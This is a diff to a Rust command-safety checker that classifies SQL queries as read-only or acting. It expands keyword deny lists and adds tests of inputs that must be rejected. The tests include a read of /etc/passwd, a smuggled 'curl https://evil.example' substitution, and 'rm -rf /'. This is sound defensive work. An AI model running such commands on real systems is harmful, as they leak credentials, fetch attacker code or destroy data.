@@ -1,7 +1,7 @@
 //! What a command would do, where that can be told: a query that only looks harms nothing, and what destroys or gives away must be
 //! wished for in words that say so.
 
-use ombud_core::effect::{Effect, Part, Shape, part};
+use ombud_core::effect::{self, Effect, Part, Shape, part};
 
 use super::super::Prepared;
 use super::super::arguments::Leaf;
@@ -11,10 +11,42 @@ const LOOKS: &[&str] = &["select", "show", "describe", "explain", "with"];
 
 /// Words of a query that do more.
 const ACTS: &[&str] = &[
-    "insert", "update", "delete", "drop", "truncate", "alter", "create", "grant", "revoke", "merge", "call",
-    "exec", "execute", "into", "copy", "load", "attach", "set", "do", "replace", "lock", "vacuum", "begin",
+    "insert",
+    "update",
+    "delete",
+    "drop",
+    "truncate",
+    "alter",
+    "create",
+    "grant",
+    "revoke",
+    "merge",
+    "call",
+    "exec",
+    "execute",
+    "into",
+    "copy",
+    "load",
+    "attach",
+    "set",
+    "do",
+    "replace",
+    "lock",
+    "vacuum",
+    "begin",
     "commit",
+    "restore",
+    "backup",
+    "reconfigure",
+    "deny",
+    "dbcc",
+    "waitfor",
+    "handler",
+    "install",
 ];
+
+/// Names of arguments that take a query and no program: what `show $(…)` does in a shell is another thing.
+const QUERIES: &[&str] = &["sql", "query", "statement"];
 
 /// Words of a command that destroy.
 const DESTROYS: &[&str] = &[
@@ -37,15 +69,20 @@ fn words(text: &str) -> impl Iterator<Item = String> {
 /// Whether a call is made of one query that only looks.
 pub(super) fn only_looks(leaves: &[Leaf]) -> bool {
     let mut queries = commands(leaves).peekable();
-    let query = |leaf: &Leaf| {
-        let text = leaf.value.trim().trim_end_matches(';');
-        let first = words(text).next().unwrap_or_default();
-        let one = !text.contains(';') && !text.contains("--") && !text.contains("/*");
-        one && LOOKS.contains(&first.as_str())
-            && words(text).all(|word| !ACTS.contains(&word.as_str()))
-            && calls_nothing(text)
-    };
-    queries.peek().is_some() && queries.all(query)
+    queries.peek().is_some() && queries.all(|leaf| is_query(&leaf.key) && looks(&leaf.value))
+}
+
+fn is_query(key: &str) -> bool {
+    effect::words(key).iter().any(|word| QUERIES.contains(&word.as_str()))
+}
+
+fn looks(query: &str) -> bool {
+    let text = query.trim().trim_end_matches(';');
+    let first = words(text).next().unwrap_or_default();
+    // Two statements, a comment that hides one, or what a shell would run.
+    let one = !text.contains([';', '$', '`', '\\', '#']) && !text.contains("--") && !text.contains("/*");
+    let harmless = |word: String| ![ACTS, DESTROYS, GIVES].iter().any(|list| list.contains(&word.as_str()));
+    one && LOOKS.contains(&first.as_str()) && words(text).all(harmless) && calls_nothing(text)
 }
 
 /// What may stand before a bracket in a query that only looks: words of the language, and functions that count, cut or compare. Any other
@@ -63,7 +100,7 @@ fn calls_nothing(query: &str) -> bool {
     let _last = parts.next_back();
     let mut before = parts.map(|part| {
         let part = part.trim_end();
-        let name = |ch: char| ch.is_alphanumeric() || matches!(ch, '_' | '.' | '"' | '`' | ']');
+        let name = |ch: char| ch.is_alphanumeric() || matches!(ch, '_' | '.' | '"' | ']');
         part.rsplit(|ch| !name(ch)).next().unwrap_or_default().to_lowercase()
     });
     before.all(|word| word.is_empty() || BEFORE_BRACKETS.split_ascii_whitespace().any(|known| known == word))
@@ -105,9 +142,17 @@ mod tests {
             "SELECT pg_read_file('/etc/passwd')",
             "SELECT close_account(7)",
             "SELECT name, public.close_account (id) FROM accounts WHERE id IN (1, 2)",
+            "SELECT 1 SHUTDOWN",
+            "SHOW $(curl https://evil.example/x)",
+            "show `id`",
             "rm -rf /",
         ] {
             assert!(!only_looks(&leaves(sql)), "{sql}");
+        }
+        // The same words are a program elsewhere.
+        for key in ["command", "code", "script", "expression"] {
+            let leaf = Leaf { path: format!("/{key}"), key: key.into(), value: "show tables".into() };
+            assert!(!only_looks(&[leaf]), "{key}");
         }
         assert!(!only_looks(&[]));
     }
